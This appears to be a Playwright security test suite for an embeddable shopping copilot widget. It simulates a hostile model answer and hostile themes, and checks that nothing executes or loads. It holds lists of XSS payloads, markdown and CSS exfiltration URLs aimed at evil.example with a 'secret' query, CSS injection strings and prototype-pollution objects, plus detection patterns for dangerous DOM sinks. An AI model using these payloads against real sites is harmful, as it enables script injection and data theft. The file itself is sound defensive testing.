import type { Page } from '@playwright/test';
import type { Frame } from '../src/protocol/frames.ts';
import { encodedDone, encodeFrame } from '../src/protocol/sse.ts';
import { DEMO, SHOP } from './fixtures/servers.ts';
import { expect, test } from './fixtures/test.ts';

// Threats that a browser decides about (docs/security.md). Where a model is needed, the answer is written here as a hostile model
// would write it and handed to the widget past the guard: the widget has to hold by itself.

declare global {
  interface Window {
    pwned?: unknown;
    overheard: string[];
  }
}

const EVIL = 'https://evil.example';
const PAYLOADS = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"><animate onbegin="window.pwned=1" attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">a</a>',
  '[link](javascript:window.pwned=1)',
  '[link](java\nscript:window.pwned=1)',
  '[link](data:text/html,<script>window.pwned=1</script>)',
  `[link](${EVIL}/?q=secret)`,
  `![picture](${EVIL}/p.png?q=secret)`,
  `<img src="${EVIL}/i.png">`,
  `<${EVIL}/auto>`,
  `${EVIL}/bare?q=secret`,
  '<style>*{background:url(https://evil.example/s)}</style>',
  `<link rel="prefetch" href="${EVIL}/l">`,
  '<form action="javascript:window.pwned=1"><button>x</button></form>',
  '<math><mtext><img src=x onerror=window.pwned=1></mtext></math>',
  '`<img src=x onerror=window.pwned=1>`',
  '```html\n<img src=x onerror=window.pwned=1>\n```',
  '<details open ontoggle="window.pwned=1">',
];

/** An item whose every text and address is an attempt. */
const hostileItem = (payload: string) => ({
  id: 'cam-1',
  title: payload,
  subtitle: payload,
  brand: payload,
  model: payload,
  description: { plain: payload, markdown: payload },
  url: 'javascript:window.pwned=1',
  offers: [{ id: 'sale', kind: 'sell', price: { amount: 100, currency: 'CNY' }, fees: [] }],
  media: [{ type: 'image', url: 'javascript:window.pwned=1', alt_text: payload }],
  features: [payload],
  attributes: { x: { label: payload, value: payload } },
  locale: 'en',
  updated_at: '2026-01-01T00:00:00Z',
});

function hostileRun(): string {
  const text = PAYLOADS.join('\n\n');
  const frames: Frame[] = [
    { type: 'start', messageId: 'r.a', messageMetadata: { conversation_id: 'c'.repeat(24), run_id: 'r' } },
    { type: 'start-step' },
    { type: 'text-start', id: 't' },
    ...text.split(/(?<=.{7})/su).map((delta): Frame => ({ type: 'text-delta', id: 't', delta })),
    { type: 'text-end', id: 't' },
    { type: 'source-url', sourceId: 's', url: 'javascript:window.pwned=1', title: PAYLOADS[1] ?? '' } as Frame,
    ...PAYLOADS.slice(0, 3).map(
      (payload, n) =>
        ({
          type: 'data-itemCard',
          id: `r.1.${n}`,
          data: { v: 1, item: hostileItem(payload), reason: payload, checked_at: '2026-01-01T00:00:00Z' },
        }) as unknown as Frame,
    ),
    {
      type: 'data-askCard',
      id: 'r.1.9',
      data: { v: 1, question: PAYLOADS[1] ?? '', options: PAYLOADS.slice(0, 4).map((label, n) => ({ id: `o${n}`, label })), multi: false },
    } as Frame,
    { type: 'data-suggestions', id: 'r.1.10', data: { v: 1, prompts: PAYLOADS.slice(0, 3) } } as Frame,
    { type: 'finish-step' },
    { type: 'finish', finishReason: 'stop' },
  ];
  return frames.map((frame, at) => encodeFrame(frame, at + 1)).join('') + encodedDone;
}

/** Answers every message with the hostile run. */
const withHostileModel = (page: Page): Promise<unknown> =>
  page.route('**/v1/chat', (route) =>
    route.fulfill({
      headers: {
        'content-type': 'text/event-stream; charset=utf-8',
        'x-vercel-ai-ui-message-stream': 'v1',
        'access-control-allow-origin': SHOP.origin,
      },
      body: hostileRun(),
    }),
  );

/** Hosts that the page asked for anything. */
function hostsAsked(page: Page): Set<string> {
  const hosts = new Set<string>();
  page.on('request', (request) => {
    const { protocol, host } = new URL(request.url());
    if (/^(?:https?|wss?):$/.test(protocol)) hosts.add(host);
  });
  return hosts;
}

/** What of ours could run or load something: elements, handlers and addresses in the shadow root. */
const dangerous = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const found: string[] = [];
    const look = (root: ParentNode): void => {
      for (const element of root.querySelectorAll('*')) {
        if (/^(?:script|iframe|object|embed|link|meta|base|style|math)$/i.test(element.localName)) found.push(`<${element.localName}>`);
        // A link is followed by a press alone, and its host is the guard's matter.
        for (const { name, value } of element.attributes)
          if (
            /^on/i.test(name) ||
            /^\s*(?:javascript|data:text|vbscript)/i.test(value) ||
            (value.includes('evil.example') && element.localName !== 'a') ||
            (name === 'action' && value)
          )
            found.push(`${element.localName} ${name}="${value}"`);
        if (element.shadowRoot) look(element.shadowRoot);
      }
    };
    const host = document.querySelector('aisle-copilot');
    if (host?.shadowRoot) look(host.shadowRoot);
    return found;
  });

const hosts = [new URL(DEMO.origin).host, new URL(SHOP.origin).host];

for (const host of ['plain', 'strict-csp'])
  test(`T5: nothing a model, a feed or a shopper writes becomes an element that acts, on ${host}`, async ({
    page,
    hosts: shops,
    copilot,
  }, info) => {
    await withHostileModel(page);
    await shops.open(host);
    await copilot.open();
    await copilot.ask(PAYLOADS.slice(0, 6).join(' '));
    await copilot.answered.waitFor();
    await page.screenshot({ path: info.outputPath('hostile.png') });
    expect(await dangerous(page)).toEqual([]);
    expect(await page.evaluate(() => window.pwned)).toBeUndefined();
    if (host === 'strict-csp') expect(await page.evaluate(() => window.violations)).toEqual([]);
    // The words are there, as words.
    await expect(copilot.thread).toContainText('window.pwned');
  });

test('T5: the built files hold no way from text to markup or code', async ({ request }) => {
  const loader = await (await request.get(`${DEMO.origin}/aisle.js`)).text();
  const entry = /w\/[\w-]+\/[\w.-]+\.js/.exec(loader)?.[0] ?? '';
  const seen = new Set<string>();
  const queue = [`/${entry}`];
  const files: [string, string][] = [['/aisle.js', loader]];
  for (let path = queue.pop(); path; path = queue.pop()) {
    if (seen.has(path)) continue;
    seen.add(path);
    const text = await (await request.get(`${DEMO.origin}${path}`)).text();
    files.push([path, text]);
    for (const [, name] of text.matchAll(/["'`]\.?\/?([\w-]+\.js)["'`]/g)) queue.push(path.replace(/[^/]+$/, name ?? ''));
  }
  expect(files.length).toBeGreaterThan(2);
  for (const [path, text] of files) {
    const found = text.match(
      /\.outerHTML\s*=|insertAdjacentHTML|document\.write|\beval\(|new Function\(|setTimeout\(["'`]|createContextualFragment/,
    );
    expect([path, found?.[0]]).toEqual([path, undefined]);
  }
});

test('T6: whatever an answer holds, no host is asked but the shop’s and the copilot’s', async ({ page, hosts: shops, copilot }) => {
  const asked = hostsAsked(page);
  await withHostileModel(page);
  await shops.open('plain');
  await copilot.open();
  await copilot.ask('show me');
  await copilot.answered.waitFor();
  for (const link of await copilot.thread.getByRole('link').all()) await link.hover();
  await page.mouse.wheel(0, 2000);
  expect([...asked].filter((host) => !hosts.includes(host))).toEqual([]);
});

test('T18: a page that poisons prototypes and listens everywhere hears no token, and keeps working', async ({
  page,
  hosts: shops,
  copilot,
  provoked,
}) => {
  const token = `${'e30'}.${Buffer.from(JSON.stringify({ sub: 'ann', exp: Math.floor(Date.now() / 1000) + 600 })).toString('base64url')}.c2lnbmF0dXJl`;
  provoked.push(/401/); // the made-up token is refused
  await shops.open('hostile');
  await copilot.launcher.waitFor();
  await page.evaluate((given) => window.Aisle('identify', { token: given }), token);
  await copilot.open();
  await copilot.ask('a camera');
  await expect(copilot.thread).toContainText('a camera');
  await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
  const heard = await page.evaluate(() => window.overheard);
  expect(heard.filter((line) => line.includes(token))).toEqual([]);
  // No global and nothing stored holds it.
  const reachable = await page.evaluate((given) => {
    const texts = [...Object.values({ ...localStorage }), ...Object.values({ ...sessionStorage }), document.cookie];
    for (const name of Object.getOwnPropertyNames(window)) {
      const value = (window as unknown as Record<string, unknown>)[name];
      if (typeof value === 'string') texts.push(value);
    }
    texts.push(document.documentElement.outerHTML, String(window.Aisle), ...Object.values(window.Aisle).map(String));
    return texts.filter((text) => text.includes(given)).length;
  }, token);
  expect(reachable).toBe(0);
  await expect(page.locator('#first')).toBeVisible();
});

/** Themes, attributes and calls that try to get out of what they are for. */
const CONFIGS: readonly unknown[] = [
  ...[
    'red;} * {display:none',
    `url(${EVIL}/t)`,
    'expression(alert(1))',
    '</style><img src=x onerror=window.pwned=1>',
    'var(--x, url(https://evil.example/v))',
    '#fff;background:url(https://evil.example/b)',
    'javascript:window.pwned=1',
    `image-set("${EVIL}/i" 1x)`,
    '\\75rl(https://evil.example/e)',
    'calc(1px); } @import "https://evil.example/c";',
  ].map((accent) => ({ accent })),
  { radius: '</style><script>window.pwned=1</script>' },
  { radius: { toString: 'x' } },
  { textSize: '100px;position:fixed' },
  { font: `x; src: url(${EVIL}/f)` },
  { fontFamily: `"x";} @font-face{src:url(${EVIL}/g)}` },
  { logo: `${EVIL}/logo.svg` },
  { icon: '<svg onload=window.pwned=1>' },
  { css: `@import url(${EVIL}/h)` },
  { style: '*{display:none}' },
  { className: '"><img src=x onerror=window.pwned=1>' },
  { launcher: { html: '<img src=x onerror=window.pwned=1>' } },
  { __proto__: { accent: `url(${EVIL}/p)` } },
  { constructor: { prototype: { polluted: 1 } } },
  { accent: ['#fff', `url(${EVIL}/a)`] },
  { accent: { toString: 'url' } },
  { accent: 'x'.repeat(100_000) },
  'a text',
  42,
  null,
  [{ accent: `url(${EVIL}/l)` }],
  { accent: '#12\u0000345' },
];
const ATTRIBUTES = ['data-site', 'data-locale', 'data-accent', 'data-position', 'data-label', 'data-greeting'];

test('T20: thirty hostile themes and attributes add no element, ask no host and hide nothing', async ({
  page,
  hosts: shops,
  copilot,
  provoked,
}) => {
  provoked.push(/401|Failed to load resource/);
  const asked = hostsAsked(page);
  await shops.open('plain');
  await copilot.launcher.waitFor();
  const elements = () => page.evaluate(() => document.querySelectorAll('*').length);
  const before = await elements();
  expect(CONFIGS.length).toBeGreaterThanOrEqual(30);
  for (const config of CONFIGS) await page.evaluate((theme) => window.Aisle('theme', theme as never), config);
  await copilot.open();
  for (const config of CONFIGS) await page.evaluate((theme) => window.Aisle('theme', theme as never), config);
  expect(await elements()).toBe(before);
  expect(await dangerous(page)).toEqual([]);
  expect(await page.evaluate(() => [window.pwned, ({} as { polluted?: unknown }).polluted, document.styleSheets.length])).toEqual([
    undefined,
    undefined,
    await page.evaluate(() => document.querySelectorAll('style, link[rel=stylesheet]').length),
  ]);
  await expect(copilot.field).toBeVisible();
  await expect(page.locator('#first')).toBeVisible();

  // The same in the tag itself.
  for (const attribute of ATTRIBUTES) {
    await shops.open('plain');
    await copilot.host.waitFor({ state: 'attached' });
    await page.evaluate(
      ([name, value, src]) => {
        window.Aisle('shutdown');
        const script = document.createElement('script');
        script.setAttribute(name ?? '', value ?? '');
        script.src = src ?? '';
        document.body.append(script);
      },
      [attribute, `"><img src=x onerror=window.pwned=1><a href=${EVIL}>`, `${DEMO.origin}/aisle.js`],
    );
    await copilot.host.waitFor({ state: 'attached' });
    expect(await dangerous(page)).toEqual([]);
    expect(await page.evaluate(() => window.pwned)).toBeUndefined();
  }
  expect([...asked].filter((host) => !hosts.includes(host))).toEqual([]);
});

test('T19: opening, answering and closing move nothing of the page and throw nothing in it', async ({ page, hosts: shops, copilot }) => {
  await page.addInitScript(() => {
    const shifts: string[] = [];
    Object.assign(window, { shifts });
    // What moves inside the panel is the panel's; what moves around it is the page's.
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries() as (PerformanceEntry & { sources?: { node?: Node | null }[] })[])
        for (const { node } of entry.sources ?? [])
          if (node && !(node.getRootNode() instanceof ShadowRoot) && node.nodeName !== 'AISLE-COPILOT') shifts.push(node.nodeName);
    }).observe({ type: 'layout-shift', buffered: true });
  });
  await shops.open('plain');
  await copilot.launcher.waitFor();
  await copilot.open();
  await copilot.ask('a camera');
  await copilot.answered.waitFor();
  await page.keyboard.press('Escape');
  await expect(copilot.panel).toBeHidden();
  await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
  expect(await page.evaluate(() => (window as unknown as { shifts: string[] }).shifts)).toEqual([]);
});
